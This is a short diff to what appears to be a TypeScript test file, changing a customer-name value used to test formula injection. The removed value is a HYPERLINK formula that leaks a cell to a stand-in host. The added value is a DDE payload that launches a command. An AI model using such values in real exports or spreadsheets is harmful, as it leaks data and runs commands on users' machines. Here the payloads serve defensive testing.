@@ -15,7 +15,7 @@ type Caller = Awaited<ReturnType<Tenant['administrator']>>;
 
 let tenant: Tenant;
 let admin: Caller;
-const DANGEROUS = '=HYPERLINK("http://x.example/?leak="&A1,"Click")';
+const DANGEROUS = '=cmd|"/C calc"!A0';
 
 /** What the customers of this file's tenant are called, in order of name. */
 const names = [DANGEROUS, 'Bücher & Söhne', ...Array.from({ length: 9 }, (_, n) => `Navy ${n}`)];
